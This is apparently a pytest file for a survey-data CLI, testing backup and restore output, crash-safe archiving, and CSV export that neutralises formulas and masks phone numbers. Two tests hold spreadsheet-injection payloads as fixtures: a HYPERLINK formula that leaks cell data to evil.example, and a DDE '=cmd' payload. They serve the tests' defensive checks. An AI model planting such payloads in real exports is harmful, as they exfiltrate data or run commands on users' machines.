"""`cx backup` and `cx restore`: the JSON contract, one-line refusals, kill -9 mid-backup; and the
one CSV writer behind every `--format csv` (formulas neutralised, free text masked)."""

from __future__ import annotations

import io
import json
import signal
import subprocess
import sys
import tarfile
from datetime import datetime
from pathlib import Path

import polars as pl
import pytest

from cx import store
from cx.cli import main
from cx.cli.common import emit
from tests.support.datadir import write_org, write_waves


@pytest.fixture
def folder(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """A data folder with one wave and its SQLite store (``DATABASE_URL`` unset)."""
    monkeypatch.delenv("DATABASE_URL", raising=False)
    root = write_org(tmp_path / "data")
    wave = root / "waves" / "wave=2026-Q1"
    wave.mkdir(parents=True)
    pl.DataFrame({"response_id": ["r1"], "nps": [9]}).write_parquet(wave / "part-0.parquet")
    store.init(store.make_engine(f"sqlite:///{root / 'cx.db'}")).dispose()
    return root


def test_backup_and_restore_print_one_json_row_each(
    folder: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    out = tmp_path / "nightly.tar.gz"
    assert main(["backup", "--data", str(folder), "--out", str(out), "--format", "json"]) == 0
    [made] = json.loads(capsys.readouterr().out)
    assert list(made) == ["file", "bytes", "files", "store", "tables", "rows", "seconds"]
    assert (made["file"], made["store"], made["files"]) == (str(out), "sqlite", 2)
    with tarfile.open(out) as tar:  # gzip by the file name
        assert "manifest.json" in tar.getnames()
    (folder / "org.yaml").unlink()
    assert main(["restore", str(out), "--data", str(folder), "--format", "json"]) == 0
    [done] = json.loads(capsys.readouterr().out)
    assert list(done) == ["file", "created_at", "files", "store", "tables", "rows", "seconds"]
    assert (folder / "org.yaml").exists() and done["files"] == 2


@pytest.mark.parametrize(
    ("args", "reason"),
    [
        (["restore", "{tmp}/random.bin"], "is not a CX Review backup (not a tar archive)"),
        (["restore", "{tmp}/absent.tar"], "no such file"),
        (["restore", "{tmp}/other.tar"], "no manifest.json"),
        (["backup", "--out", "{tmp}/nowhere/b.tar"], "output folder does not exist"),
        (["backup", "--out", "{tmp}"], "is a folder"),
    ],
)
def test_bad_input_gets_one_line_and_exit_code_2(
    folder: Path,
    tmp_path: Path,
    capsys: pytest.CaptureFixture[str],
    args: list[str],
    reason: str,
) -> None:
    (tmp_path / "random.bin").write_bytes(b"\x00\x01not a tar at all" * 64)
    with tarfile.open(tmp_path / "other.tar", "w") as tar:
        info = tarfile.TarInfo("notes.txt")
        info.size = 2
        tar.addfile(info, io.BytesIO(b"hi"))
    argv = [a.format(tmp=tmp_path) for a in args] + ["--data", str(folder)]
    assert main(argv) == 2
    err = capsys.readouterr().err
    assert reason in err and err.count("\n") == 1 and "Traceback" not in err


KILL_DURING_BACKUP = """
import os, signal, sys
from pathlib import Path
from cx.ops import backup
real, added = backup._add, []
def add_then_die(*args, **kwargs):
    added.append(real(*args, **kwargs))
    if len(added) == 2:  # half the data folder is in the archive
        os.kill(os.getpid(), signal.SIGKILL)
    return added[-1]
backup._add = add_then_die
backup.backup(Path(sys.argv[1]), Path(sys.argv[2]))
"""


def test_a_backup_killed_mid_write_leaves_no_half_archive_and_the_last_one_intact(
    folder: Path, tmp_path: Path
) -> None:
    out = tmp_path / "nightly.tar"
    assert main(["backup", "--data", str(folder), "--out", str(out)]) == 0
    last = out.read_bytes()
    (folder / "crm").mkdir()
    pl.DataFrame({"customer_id": ["C1"]}).write_parquet(folder / "crm" / "transactions.parquet")
    killed = subprocess.run(
        [sys.executable, "-c", KILL_DURING_BACKUP, str(folder), str(out)],
        capture_output=True,
        text=True,
        timeout=120,
    )
    assert killed.returncode == -signal.SIGKILL, killed.stderr
    assert out.read_bytes() == last  # the previous archive, whole and untouched
    partial = [p.name for p in tmp_path.iterdir() if p.name.endswith(".partial")]
    assert len(partial) == 1 and partial[0].startswith(".nightly.tar.")  # hidden, never FILE
    assert main(["restore", str(out), "--data", str(folder)]) == 0  # still restorable


# ---------------------------------------------------------------- one CSV writer for the CLI


def test_csv_output_goes_through_the_one_writer_formulas_neutralised(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    evil = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'
    frame = pl.DataFrame(
        {
            "response_id": [f"r{i}" for i in range(40)],
            "wave": ["2026-Q1"] * 40,
            "responded_at": [datetime(2026, 2, 1)] * 40,
            "customer_id": [f"C{i}" for i in range(40)],
            "region": ["Europe"] * 40,
            "country": ["ES"] * 40,
            "agency": [evil] * 20 + ["@SUM(A1:A9)"] * 20,
            "nps": [9] * 30 + [2] * 10,
        }
    )
    root = write_waves(tmp_path / "data", frame)
    assert main(["kpis", "--data", str(root), "--by", "agency", "--format", "csv"]) == 0
    out = capsys.readouterr().out
    assert "'=HYPERLINK(" in out and "'@SUM(A1:A9)" in out
    assert "\n=" not in out and ",=" not in out and "\n@" not in out


def test_free_text_is_masked_in_every_output_format(capsys: pytest.CaptureFixture[str]) -> None:
    rows = [{"id": 1, "comment": "=cmd|' /C calc'!A0 llamen al 612 345 678", "nps": -1}]
    for fmt in ("csv", "json", "table"):
        emit(rows, fmt)
        out = capsys.readouterr().out
        assert "612 345 678" not in out and "[phone]" in out
    emit(rows, "csv")
    assert capsys.readouterr().out.splitlines()[1].startswith("1,'=cmd|")
